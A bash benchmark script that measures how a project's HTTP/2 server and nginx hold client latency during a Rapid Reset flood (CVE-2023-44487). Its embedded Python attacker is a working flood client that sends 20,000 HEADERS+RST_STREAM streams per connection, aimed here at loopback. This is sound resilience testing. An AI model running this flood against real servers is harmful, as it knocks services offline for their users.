#!/usr/bin/env bash
# HTTP/2 flood fairness (reliability target T9), ours and nginx side by side in one run: the
# p99 latency of ordinary clients (h2load, 10 connections at a fixed 50 requests/s each, over
# TLS) measured quiet and then while two attackers run Rapid Reset (CVE-2023-44487: HEADERS +
# RST_STREAM, 20 000 streams a connection, reconnecting at once). For each server: both p99s
# and their ratio (target: < 2; on 2 cores the attackers, h2load and the server share the CPU,
# so nginx's ratio shows what the machine alone costs), whether every attack connection ended
# in GOAWAY or a close, and how many attack streams reached the handler (target: < 1 %).
# The servers and h2load run on CPU 0 and the attackers on CPU 1 (taskset), so what is measured
# is how a server shares its own time between an attacker and everyone else, not how the
# kernel shares the machine. Release build; loopback only.
# Usage: bash benches/h2_flood_latency.sh [seconds per phase]
#        (needs h2load and nginx: apt-get install nghttp2-client nginx)
set -euo pipefail
secs=${1:-10}
root=$(cd "$(dirname "$0")/.." && pwd)
work=$(mktemp -d /tmp/h2flood.XXXXXX)
pids=()
trap 'for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done; rm -rf "$work"' EXIT
for t in h2load nginx openssl python3 taskset; do
  command -v "$t" >/dev/null || { echo "$t is needed (apt-get install nghttp2-client nginx)"; exit 1; }
done
(cd "$root" && cargo build --release -q --bin server)
free() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
port=$(free); nport=$(free)
mkdir -p "$work/www" "$work/nginx"
head -c 1024 /dev/zero | tr '\0' a > "$work/www/1k.html"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj "/CN=a.test" \
  -addext "subjectAltName=DNS:a.test" -keyout "$work/key.pem" -out "$work/cert.pem" 2>/dev/null
cat > "$work/main.conf" <<CONF
ServerName a.test
Listen 127.0.0.1:$port https
ErrorLog logs/error.log
LogLevel warn
CustomLog logs/access.log common
PidFile logs/pid
<VirtualHost 127.0.0.1:$port>
  ServerName a.test
  DocumentRoot www
  SSLEngine on
  SSLCertificateFile cert.pem
  SSLCertificateKeyFile key.pem
</VirtualHost>
CONF
cat > "$work/nginx/nginx.conf" <<CONF
worker_processes auto;
pid $work/nginx/nginx.pid;
error_log $work/nginx/error.log;
events { worker_connections 4096; }
http {
  access_log $work/nginx/access.log;
  types { text/html html; }
  server {
    listen 127.0.0.1:$nport ssl http2;
    ssl_certificate $work/cert.pem; ssl_certificate_key $work/key.pem;
    root $work/www;
  }
}
CONF
chmod -R a+rX "$work"   # nginx's workers run unprivileged
taskset -c 0 "$root/target/release/server" --allow-root -d "$work" -f main.conf >"$work/server.out" 2>&1 &
pids+=($!)
taskset -c 0 nginx -c "$work/nginx/nginx.conf" -p "$work/nginx" -g 'daemon off;' 2>/dev/null &
pids+=($!)
for p in $port $nport; do
  for _ in $(seq 50); do (exec 3<>"/dev/tcp/127.0.0.1/$p") 2>/dev/null && break; sleep 0.1; done
done

cat > "$work/attack.py" <<'PY'
# One attacker: Rapid Reset connections back to back until the deadline; prints
# "<connections> <ended by GOAWAY or close> <streams sent>".
import socket, ssl, struct, sys, time
port, deadline = int(sys.argv[1]), time.time() + float(sys.argv[2])
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
ctx.set_alpn_protocols(['h2'])
frame = lambda t, f, sid, p=b'': len(p).to_bytes(3, 'big') + bytes([t, f]) + struct.pack('>I', sid) + p
hdr = b'\x82\x87\x84' + bytes([0x01, 6]) + b'a.test'
conns = ended = streams = 0
while time.time() < deadline:
    s = ctx.wrap_socket(socket.create_connection(('127.0.0.1', port)), server_hostname='a.test')
    conns += 1
    s.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0))
    buf, closed, sent = b'', False, 0
    for i in range(20000):
        sid = 2 * i + 1
        buf += frame(1, 0x5, sid, hdr) + frame(3, 0, sid, struct.pack('>I', 8))
        if len(buf) > 65536:
            try:
                s.sendall(buf)
            except OSError:
                closed = True
                break
            sent, buf = i + 1, b''
    s.settimeout(2)
    data = b''
    try:
        if not closed:
            s.sendall(buf)
            sent = 20000
        while True:
            d = s.recv(65536)
            if not d:
                break
            data += d
    except Exception:
        pass
    streams += sent
    if closed or b'\x07\x00\x00\x00\x00\x00' in data:
        ended += 1
    s.close()
print(conns, ended, streams)
PY

rate_run() {  # $1: port, $2: log file
  taskset -c 0 h2load -c10 --rps=50 -D"$secs" --log-file="$2" "https://127.0.0.1:$1/1k.html" >"$2.out" 2>&1
}
p99() {  # $1: h2load log -> "p99_ms answered_200 other"
  python3 -c '
import sys
rows = [l.split("\t") for l in open(sys.argv[1]) if l.count("\t") >= 2]
t = sorted(int(r[2]) for r in rows if r[1] == "200")
print("%.2f %d %d" % (t[int(len(t) * 0.99) - 1] / 1000 if t else -1, len(t), len(rows) - len(t)))' "$1"
}
# measure NAME PORT ACCESS_LOG: one quiet phase, then one under attack.
measure() {
  local name=$1 p=$2 log=$3 quiet qn qb loud ln lb c1 e1 s1 c2 e2 s2 a1 a2 handled
  rate_run "$p" "$work/$name.quiet"
  read -r quiet qn qb < <(p99 "$work/$name.quiet")
  taskset -c 1 python3 "$work/attack.py" "$p" "$((secs + 2))" > "$work/$name.a1" & a1=$!
  taskset -c 1 python3 "$work/attack.py" "$p" "$((secs + 2))" > "$work/$name.a2" & a2=$!
  sleep 1
  rate_run "$p" "$work/$name.loud"
  wait "$a1" "$a2" || true
  read -r loud ln lb < <(p99 "$work/$name.loud")
  read -r c1 e1 s1 < "$work/$name.a1"
  read -r c2 e2 s2 < "$work/$name.a2"
  handled=$(grep -c '"GET / HTTP/2.0"' "$log" || true)
  echo "$name $quiet $qn $qb $loud $ln $lb $((c1 + c2)) $((e1 + e2)) $((s1 + s2)) $handled"
}
{
  measure ours "$port" "$work/logs/access.log"
  measure nginx "$nport" "$work/nginx/access.log"
} > "$work/results"
python3 - "$work/results" <<'PY'
import sys
ok = True
print(f"{'server':8} {'quiet p99':>10} {'attack p99':>11} {'ratio':>6}  attack connections, streams handled")
for line in open(sys.argv[1]):
    name, quiet, qn, qb, loud, ln, lb, conns, ended, streams, handled = line.split()
    quiet, loud = float(quiet), float(loud)
    qb, lb, conns, ended, streams, handled = map(int, (qb, lb, conns, ended, streams, handled))
    ratio = loud / quiet if quiet > 0 else float("inf")
    share = 100.0 * handled / streams if streams else 0.0
    print(f"{name:8} {quiet:8.2f}ms {loud:9.2f}ms {ratio:6.2f}  {ended}/{conns} ended by GOAWAY or close, "
          f"{handled} of {streams} streams handled ({share:.3f} %); {qb + lb} answers not 200")
    if name == "ours":
        ok = ratio < 2 and ended == conns and share < 1 and qb == 0 and lb == 0
print("PASS" if ok else "FAIL (ours: ratio < 2, every attack connection ended, < 1 % handled, all 200)")
sys.exit(0 if ok else 1)
PY
